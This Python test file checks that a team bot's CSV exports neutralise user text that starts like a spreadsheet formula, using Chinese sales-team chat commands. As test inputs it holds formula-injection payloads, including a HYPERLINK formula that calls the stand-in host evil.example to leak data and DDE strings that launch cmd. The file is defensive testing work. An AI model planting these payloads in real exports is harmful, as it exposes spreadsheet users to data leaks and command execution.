"""Exports never hand a spreadsheet a formula: user text that starts like one reads as text."""
from __future__ import annotations

import csv
from datetime import datetime
from pathlib import Path

import pytest

from commands.core import csv_safe
from commands.core.clock import FixedClock
from commands.core.reply import File
from storage.db import make_engine
from storage.uow import uow_factory
from tests.conftest import SHANGHAI
from tests.kit.dialog import Chat

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click me")'


@pytest.mark.parametrize("text", [
    HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "=1", "-", "+", "@", "-1+1", "- 5", "-5万", "＝1＋1", "＋1", "－1", "＠SUM(A1)",
])
def test_text_that_starts_like_a_formula_reads_as_text(text):
    assert csv_safe.cell(text) == "'" + text


@pytest.mark.parametrize("value, text", [
    (-12.5, "-12.5"), ("-12.5", "-12.5"), (-3, "-3"), ("-0.25", "-0.25"), ("+7", "+7"), ("1e5", "1e5"),
    ("-1.5E-3", "-1.5E-3"), (0, "0"), (None, ""), ("签约ACME 年框", "签约ACME 年框"), ("a=b", "a=b"),
    ("销售额 -5", "销售额 -5"), ("", ""),
])
def test_numbers_stay_numbers_and_plain_text_is_untouched(value, text):
    assert csv_safe.cell(value) == text


def _csv(reply):
    path = next(p for p in reply.parts if isinstance(p, File)).path
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


@pytest.fixture
def chat(sqlite_url, tmp_path, monkeypatch):
    monkeypatch.setenv("TEAMBOT_EXPORT_DIR", str(tmp_path / "exports"))
    engine = make_engine(sqlite_url)
    yield Chat(uow_factory(engine), FixedClock(datetime(2026, 10, 20, 10, 0, tzinfo=SHANGHAI)))
    engine.dispose()


def test_every_export_neutralises_what_users_typed_and_keeps_numbers(chat):
    chat.say("wang", "/team setup 华东销售一组")
    chat.say("wang", "/team add @li rep")
    chat.say("li", "/progress 九月签约 sales=50000")
    chat.clock.set(datetime(2026, 11, 20, 10, 0, tzinfo=SHANGHAI))
    typed = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"]
    for note in typed:
        assert chat.say("li", f"/progress {note} sales=1").ok
    assert chat.say("wang", "/task add @li =SUM(A1:A9) 回访 due 2026-11-30 note -1+1").ok
    assert chat.say("li", "/resource request budget 5000 for =1+2 展会").ok

    progress = _csv(chat.say("li", "/teambot export progress"))
    notes = {r[2]: r for r in progress[1:]}
    for note in typed:
        assert "'" + note in notes, progress
        assert notes["'" + note][6] == "1"
    tasks = _csv(chat.say("wang", "/teambot export tasks"))
    assert tasks[1][1] == "'=SUM(A1:A9) 回访" and tasks[1][6] == "'-1+1"
    resources = _csv(chat.say("wang", "/teambot export resources"))
    assert resources[1][5] == "'=1+2 展会" and resources[1][3] == "5000"

    kpi = _csv(chat.say("wang", "/teambot export kpi"))
    team_sales = next(r for r in kpi[1:] if r[0] == "" and r[2] == "sales")
    assert team_sales[5] == "4"
    change = team_sales[9]  # 环比: 4 this month against 50000 last month
    assert change.startswith("-") and float(change) < -99
    for row in progress + tasks + resources + kpi:
        for value in row:
            assert not value or value[0] not in csv_safe.TRIGGERS or csv_safe._NUMBER.fullmatch(value), row
